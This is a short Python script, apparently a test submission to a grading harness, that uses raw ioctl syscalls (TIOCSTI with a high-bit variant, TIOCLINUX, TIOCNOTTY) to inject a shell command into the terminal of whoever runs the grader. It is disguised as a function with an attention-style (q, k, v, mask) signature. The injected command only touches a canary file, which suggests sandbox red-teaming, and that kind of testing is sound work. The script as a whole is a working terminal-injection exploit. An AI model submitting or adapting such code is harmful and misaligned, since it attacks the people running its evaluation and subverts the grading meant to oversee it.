"""Pushes a command into the terminal of whoever runs the grader (TIOCSTI, TIOCLINUX), also with high bits set in the request."""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
line = b" touch /tmp/grader-canary-tiocsti_into_terminal.txt\n"
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print(e)
def attack(q, k, v, mask):
    for fd in fds:
        for request in (0x5412, 0x5412 | 1 << 32):
            r = [libc.syscall(16, ctypes.c_long(fd), ctypes.c_ulong(request), ctypes.c_char_p(bytes([c]))) for c in line]
            print("TIOCSTI", fd, hex(request), r[0], ctypes.get_errno())
        print("TIOCLINUX", libc.syscall(16, ctypes.c_long(fd), ctypes.c_ulong(0x541C), ctypes.c_char_p(b"\x06")), ctypes.get_errno())
        print("TIOCNOTTY", libc.syscall(16, ctypes.c_long(fd), ctypes.c_ulong(0x5422), ctypes.c_long(0)), ctypes.get_errno())
